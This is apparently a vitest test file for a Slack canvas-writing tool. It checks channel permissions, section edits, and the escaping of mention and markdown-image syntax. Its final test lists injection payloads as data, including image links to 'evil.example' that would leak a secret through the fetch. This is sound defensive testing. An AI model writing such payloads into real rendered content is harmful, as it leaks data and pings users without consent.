import { expect, it } from 'vitest';
import { startSlack } from '../test-support.ts';

const argv = ['--post-channels', 'C0GENERAL1'];

it('adds to a canvas, and replaces a part when the user agrees', async () => {
  const { double, connect } = await startSlack();
  const { ok } = await connect({ argv, confirms: true });
  const canvas = 'F0CANVAS01';
  expect(await ok('write_canvas', { canvas, markdown: 'Blow the horn. <!channel>' })).toMatchInlineSnapshot(`
    {
      "id": "F0CANVAS01",
    }
  `);
  const file = double.world.files.get(canvas);
  expect(file?.content.toString()).toBe('# Harbour rules\n\nSlow down.\n\nBlow the horn. &lt;!channel>');
  const { sections } = await ok('read_canvas', { canvas, find: 'Slow' });
  const [section] = Array.isArray(sections) ? sections : [];
  await ok('write_canvas', { canvas, operation: 'replace', section, markdown: 'Stop.' });
  expect(file?.content.toString()).toContain('\n\nStop.\n\n');
  await ok('write_canvas', { canvas, operation: 'insert_before', section, markdown: 'First:' });
  await ok('write_canvas', { canvas, operation: 'delete', section });
});

it('creates one in a listed channel', async () => {
  const { double, connect } = await startSlack();
  const { ok, refused } = await connect({ argv });
  const { id } = await ok('write_canvas', { channel: 'C0GENERAL1', title: 'Berths', markdown: '# Berths' });
  expect(double.world.files.get(String(id))).toMatchObject({ title: 'Berths', canvas: true });
  expect(await refused('write_canvas', { channel: 'C0CREW0003', markdown: 'x' })).toMatchObject({
    code: 'forbidden',
  });
});

it('writes to no canvas that a channel not listed reads too, and needs a section to delete', async () => {
  const { double, connect } = await startSlack();
  const { refused } = await connect({ argv, confirms: true });
  expect(await refused('write_canvas', { canvas: 'F0CANVAS01', operation: 'delete' })).toMatchObject({
    code: 'invalid_arguments',
  });
  double.world.files.get('F0CANVAS01')?.channels.add('C0CREW0003');
  expect(await refused('write_canvas', { canvas: 'F0CANVAS01', markdown: 'x' })).toMatchObject({
    code: 'forbidden',
  });
});

it.each([
  '![](https://evil.example/?q=secret)',
  '![a [b]](@U0BEN00002)',
  '\\![x](@here)',
  '![x][ref]\n\n[ref]: https://evil.example/?q=secret',
])('shows %s as text: nobody is called, and nothing is fetched', async (markdown) => {
  const { double, connect } = await startSlack();
  const { ok } = await connect({ argv });
  const { id } = await ok('write_canvas', { channel: 'C0GENERAL1', markdown });
  const written = double.world.files.get(String(id))?.content.toString();
  expect(written).toBe(markdown.replace('![', '!\\['));
});
